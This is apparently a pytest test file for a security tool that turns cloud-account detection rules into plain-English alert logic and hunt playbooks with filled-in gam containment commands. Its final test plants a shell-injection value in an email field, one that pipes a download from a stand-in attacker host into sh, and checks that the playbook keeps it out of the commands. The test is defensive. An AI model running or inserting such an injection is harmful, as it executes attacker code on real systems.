"""The alert's own words: the logic sentence, the entities and commands a rule's events hold,
and the hunt's commands filled with the alert's values."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from converters.alerts import commands_for, entities_for, logic_text
from converters.engine.bulk import EvidenceRow
from converters.hunt.playbook import alert_playbook, rule_guide
from converters.loading.rules import RuleSet
from converters.playbook.logic import logic_sentence, span_words
from converters.playbook.model import Playbook, load_playbook
from converters.textlint import lint_text

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def playbook() -> Playbook:
    return load_playbook(ROOT / "playbooks" / "T1585.002.yml")


def test_every_logic_line_is_a_sentence(ruleset: RuleSet) -> None:
    for doc in ruleset.docs:
        text = logic_text(ruleset, doc)
        assert text.startswith("Fires when "), doc.name
        assert lint_text(text, doc.name) == [], doc.name
        for name in doc.document.get("detection", {}):
            assert name == "condition" or f" {name} " not in f" {text} ", doc.name


@pytest.mark.parametrize(
    ("rule", "sentence"),
    [
        (
            "gws_bulk_user_creation",
            "Fires when the Google Workspace admin log shows 5 or more user accounts created "
            "by one acting admin within 1 hour.",
        ),
        ("m365_user_added", "Fires when the Unified Audit Log shows a user account added."),
        (
            "gws_user_created_from_threat_intel_ip",
            "Fires when the Google Workspace admin log shows a user account created with the "
            "admin's IP address on the threat-intelligence list.",
        ),
        (
            "entra_user_without_hr_attributes",
            "Fires when the Entra ID audit log shows a user account added successfully with an "
            'additional detail containing "Member" and the properties set on the account not '
            'containing "EmployeeId" nor "Manager".',
        ),
        (
            "m365_forwarding_disposable_domain",
            "Fires when the Unified Audit Log shows a mailbox's settings changed with its "
            "forwarding SMTP address or its forwarding address at a disposable email domain, or "
            "an inbox rule created or an inbox rule changed with its forward-to address, its "
            "redirect address or its forward-as-attachment address at a disposable email domain.",
        ),
        (
            "gws_escalation_bulk_and_disposable",
            "Fires when one acting admin has both 'Google Workspace Accounts Created in Bulk by "
            "One Admin' and 'Google Workspace Mail Routed to a Disposable Email Domain' within "
            "2 hours.",
        ),
        (
            "message_trace_disposable_sender_many_recipients",
            "Fires when the 'Microsoft 365 Mail From a Disposable Email Domain' events of one "
            "sender reach 10 or more distinct recipients within 1 hour.",
        ),
    ],
)
def test_logic_sentences(ruleset: RuleSet, rule: str, sentence: str) -> None:
    assert logic_sentence(ruleset, ruleset.by_name(rule)) == sentence


def test_a_rule_may_say_its_own_logic(ruleset: RuleSet) -> None:
    doc = ruleset.by_name("gws_user_created")
    own = dataclasses.replace(
        doc, document={**doc.document, "logic": "Fires when  an admin creates an account."}
    )
    assert logic_sentence(ruleset, own) == "Fires when an admin creates an account."


def test_a_condition_the_reader_does_not_follow_still_reads(ruleset: RuleSet) -> None:
    doc = ruleset.by_name("gws_user_created")
    odd = {**doc.document["detection"], "condition": "selection and missing_name"}
    strange = dataclasses.replace(doc, document={**doc.document, "detection": odd})
    assert logic_sentence(ruleset, strange) == (
        "Fires when the Google Workspace admin log shows an event that the rule's detection "
        "matches."
    )


def test_span_words() -> None:
    assert [span_words(s) for s in ("1h", "2h", "30d", "10m", "1w")] == [
        "1 hour",
        "2 hours",
        "30 days",
        "10 minutes",
        "1 week",
    ]


def test_entities_are_what_the_rules_events_hold(ruleset: RuleSet) -> None:
    created = [e.label for e in entities_for(ruleset, ruleset.by_name("gws_user_created"), "sigma")]
    assert "Accounts in the bulk upload" not in created and "New value" not in created
    assert "Account" in created and "Acting admin" in created
    upload = ruleset.by_name("gws_users_bulk_upload")
    labels = [e.label for e in entities_for(ruleset, upload, "sigma")]
    assert "Accounts in the bulk upload" in labels and "Account" not in labels
    routing = ruleset.by_name("gws_mail_routing_disposable_domain")
    assert "New value" in [e.label for e in entities_for(ruleset, routing, "sigma")]


def test_commands_need_fields_the_rules_events_hold(ruleset: RuleSet) -> None:
    upload = ruleset.by_name("gws_users_bulk_upload")
    actions = [c.action for c in commands_for(ruleset, upload, "splunk")]
    assert "Suspend the created account" not in actions  # the upload event names no account
    created = commands_for(ruleset, ruleset.by_name("gws_user_created"), "elastic")
    part = next(
        p for c in created for p in c.parts if p.field == "google_workspace.admin.user.email"
    )
    assert (part.label, part.variable) == ("the account", "ACCOUNT")


def _row(n: int, **values: str) -> EvidenceRow:
    return EvidenceRow(n, str(n), "2026-11-20T10:00:00", 0, n, dict(values))


def test_the_hunt_fills_commands_with_the_alerts_values(
    ruleset: RuleSet, playbook: Playbook
) -> None:
    guide = rule_guide(ruleset, playbook, ruleset.by_name("gws_escalation_bulk_and_disposable"))
    evidence = [
        *(
            _row(
                n,
                **{
                    "actor.email": "admin@example.com",
                    "event.name": "CREATE_USER",
                    "parameters.USER_EMAIL": f"new{n}@example.com",
                },
            )
            for n in range(3)
        ),
        # The routing change names a mailbox too: no account the burst created.
        _row(
            9,
            **{
                "actor.email": "admin@example.com",
                "event.name": "MAIL_ROUTING_DESTINATION_ADDED",
                "parameters.USER_EMAIL": "cfo@example.com",
            },
        ),
    ]
    text = alert_playbook(guide, evidence, ("2026-11-20T10:00:00Z", "2026-11-20T11:00:00Z"))
    for n in range(3):
        assert f"gam update user new{n}@example.com suspended on" in text
    assert "cfo@example.com" not in text
    assert "gam user admin@example.com signout" in text
    assert "How many events in the window? 4" in text
    assert lint_text(text, "hunt", markup="markdown") == []


def test_the_hunt_leaves_out_values_a_shell_could_misread(
    ruleset: RuleSet, playbook: Playbook
) -> None:
    guide = rule_guide(ruleset, playbook, ruleset.by_name("gws_user_created"))
    hostile = "x@example.com; curl evil.example | sh"
    row = _row(
        1,
        **{
            "actor.email": "admin@example.com",
            "event.name": "CREATE_USER",
            "parameters.USER_EMAIL": hostile,
        },
    )
    text = alert_playbook(guide, [row])
    assert "curl evil" not in text.split("### Containment")[1].split("###")[0].split("```")[1]
    assert "holds characters a shell could misread" in text
